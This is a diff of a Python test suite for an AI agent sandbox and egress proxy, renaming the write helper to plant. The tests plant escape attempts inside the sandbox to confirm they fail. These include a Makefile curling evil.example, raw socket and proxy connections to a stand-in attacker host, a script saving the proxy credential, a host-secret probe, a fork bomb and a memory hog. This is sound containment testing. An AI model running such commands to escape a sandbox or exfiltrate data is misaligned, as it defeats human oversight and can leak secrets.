@@ -58,7 +58,7 @@ async def test_an_allowed_host_works_through_the_gate(agent: Agent, outside: Out
 async def test_pip_download_from_an_allowed_index_runs_no_way_out(agent: Agent, outside: Outside) -> None:
     """pip fetches the package from the allowed index; its setup.py then tries a raw socket and
     the proxy to an unlisted host, from inside the sandbox. Neither reaches anything."""
-    await agent.write(
+    await agent.plant(
         "Makefile",
         "deps:\n\tpip download --no-deps --no-build-isolation --cert pypi-ca.txt -d dl "
         "--index-url https://pypi.org/simple evilpkg 2>&1 || true\n",
@@ -71,7 +71,7 @@ async def test_pip_download_from_an_allowed_index_runs_no_way_out(agent: Agent, 
 
 async def test_scripts_written_then_run_find_no_way_out(agent: Agent, outside: Outside) -> None:
     port = outside.evil.port
-    await agent.write(
+    await agent.plant(
         "escape.py",
         f"""
 import socket, subprocess, urllib.request
@@ -111,13 +111,13 @@ for cmd in (
 
 async def test_makefile_and_package_scripts_find_no_way_out(agent: Agent, outside: Outside) -> None:
     port = outside.evil.port
-    await agent.write(
+    await agent.plant(
         "Makefile",
         f"all:\n\tcurl -sS -m 3 https://evil.example/ || true\n"
         f"\tpython3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' || true\n",
     )
-    await agent.write("package.json", json.dumps({"name": "x", "scripts": {"test": "node t.js"}}))
-    await agent.write(
+    await agent.plant("package.json", json.dumps({"name": "x", "scripts": {"test": "node t.js"}}))
+    await agent.plant(
         "t.js",
         f"const net = require('net'); const s = net.connect({port}, '127.0.0.1');"
         "s.on('error', e => console.log('blocked', e.code)); s.on('connect', () => console.log('ESCAPED'));",
@@ -132,7 +132,7 @@ async def test_makefile_and_package_scripts_find_no_way_out(agent: Agent, outsid
 async def test_reused_credentials_and_inner_relays_are_still_decided(
     agent: Agent, outside: Outside, contained: Gatekeeper
 ) -> None:
-    await agent.write("connect.py", PROXY_CONNECT)
+    await agent.plant("connect.py", PROXY_CONNECT)
     for target in (
         "evil.example:443",
         "github.com:22",
@@ -141,14 +141,14 @@ async def test_reused_credentials_and_inner_relays_are_still_decided(
     ):
         result = await agent.sh(f"python3 connect.py {target}")
         assert result["stdout"].startswith("HTTP/1.1 403"), (target, result)
-    await agent.write("inner.py", INNER_RELAY)
+    await agent.plant("inner.py", INNER_RELAY)
     relayed = await agent.sh("python3 inner.py")
     assert "relayed: 0" not in relayed["stdout"], relayed
     assert outside.evil.connections == 0
 
 
 async def test_a_credential_dies_with_its_call(agent: Agent, outside: Outside, contained: Gatekeeper) -> None:
-    await agent.write("keep.py", "import os; open('cred.txt', 'w').write(os.environ['HTTPS_PROXY'])")
+    await agent.plant("keep.py", "import os; open('cred.txt', 'w').write(os.environ['HTTPS_PROXY'])")
     await agent.sh("python3 keep.py")
     proxy = (Path(str(contained.config.runner.workspace)) / "cred.txt").read_text()
     token = proxy.split("@")[0].rsplit(":", 1)[1]
@@ -175,7 +175,7 @@ async def test_http_fetch_goes_through_the_same_gate(agent: Agent, outside: Outs
 async def test_the_host_stays_invisible(agent: Agent, contained: Gatekeeper, tmp_path: Path) -> None:
     os.environ["GK_LIVE_FIRE_SECRET"] = "s3cret-from-the-host"
     try:
-        await agent.write(
+        await agent.plant(
             "look.py",
             f"""
 import os
@@ -213,15 +213,15 @@ async def test_runaway_commands_are_killed_at_their_limits(tmp_path: Path, outsi
         slow = await agent.sh("sleep 60")
         assert slow["timed_out"] is True and slow["exit_code"] == 124
         bomb = f"fork-{secrets.token_hex(4)}.py"  # its name finds its processes, whatever else runs
-        await agent.write(
+        await agent.plant(
             bomb, "import os\nfor _ in range(500):\n    os.fork() == 0 and __import__('time').sleep(30)\n"
         )
         fork = await agent.sh(f"python3 {bomb}")
         assert "BlockingIOError" in fork["stderr"] or fork["timed_out"], fork
-        await agent.write("hog.py", "x = bytearray(1024 * 1024 * 1024)\nprint('ESCAPED')\n")
+        await agent.plant("hog.py", "x = bytearray(1024 * 1024 * 1024)\nprint('ESCAPED')\n")
         hog = await agent.sh("python3 hog.py")
         assert "MemoryError" in hog["stderr"] and "ESCAPED" not in hog["stdout"], hog
-        await agent.write("loud.py", "while True:\n    print('y' * 1000)\n")
+        await agent.plant("loud.py", "while True:\n    print('y' * 1000)\n")
         loud = await agent.sh("python3 loud.py")
         assert loud["truncated"] is True and len(loud["stdout"]) == 4096
         # The wall limit ended the whole tree: nothing of the fork bomb is left on the host.
